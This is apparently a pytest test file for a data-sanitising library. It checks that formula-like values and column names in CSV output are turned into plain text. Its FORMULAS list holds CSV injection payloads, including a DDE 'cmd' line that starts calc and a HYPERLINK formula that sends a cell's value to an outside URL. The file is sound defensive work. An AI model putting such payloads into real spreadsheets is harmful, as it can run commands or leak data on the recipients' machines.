"""Text in CSV that a spreadsheet would run."""

from __future__ import annotations

import csv
import json

import pandas as pd
import pytest

import whereish as wh
from whereish.publish.formats.text.formulas import NOTE

FORMULAS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
    '=HYPERLINK("http://example.org/?"&A1)',
    "--",
    "-1e5\n=1",
]
HARMLESS = ["-3.5", "+4", "-1e-5", "-3,5", "+1,234.5%", "-inf", "-", "", "a=b", "'=1", "p-1", "-.5"]
PLAN = {"lon": "lon", "lat": "lat", "epsilon": "1/km"}


def released(tmp_path, texts: list[str], **options) -> tuple[list[str], dict]:
    """What a CSV reader finds in the kept column, and the statement."""
    frame = pd.DataFrame({"lon": -2.3, "lat": 48.8, "note": texts})
    frame.to_parquet(tmp_path / "in.parquet")
    wh.sanitize(tmp_path / "in.parquet", tmp_path / "out.csv", keep=["note"], **PLAN, **options)
    with (tmp_path / "out.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert all(float(row["lon"]) < 0 for row in rows)
    return [row["note"] for row in rows], json.loads(
        (tmp_path / "out.csv.whereish.json").read_text()
    )


def test_formulas_in_kept_csv_columns_become_text(tmp_path):
    found, statement = released(tmp_path, [*FORMULAS, *HARMLESS])
    assert found == [*(f"'{text}" for text in FORMULAS), *HARMLESS]
    assert statement["formulas"] == NOTE


def test_formulas_are_kept_where_that_is_asked_for(tmp_path):
    found, statement = released(tmp_path, [*FORMULAS, *HARMLESS], keep_formulas=True)
    assert found == [*FORMULAS, *HARMLESS]
    assert "formulas" not in statement


def test_names_of_columns_are_text_too(tmp_path):
    frame = pd.DataFrame({"lon": 2.3, "lat": 48.8, "=1+1": ["x"]})
    frame.to_parquet(tmp_path / "in.parquet")
    wh.sanitize(tmp_path / "in.parquet", tmp_path / "out.csv", keep=["=1+1"], **PLAN)
    assert (tmp_path / "out.csv").read_text().splitlines()[0] == '"lon","lat","\'=1+1"'


@pytest.mark.parametrize("kind", [".jsonl", ".parquet"])
def test_other_kinds_hold_text_as_it_is(tmp_path, kind):
    frame = pd.DataFrame({"lon": 2.3, "lat": 48.8, "note": FORMULAS})
    frame.to_parquet(tmp_path / "in.parquet")
    output = tmp_path / f"out{kind}"
    wh.sanitize(tmp_path / "in.parquet", output, keep=["note"], **PLAN)
    read = pd.read_parquet if kind == ".parquet" else lambda path: pd.read_json(path, lines=True)
    assert read(output)["note"].tolist() == FORMULAS
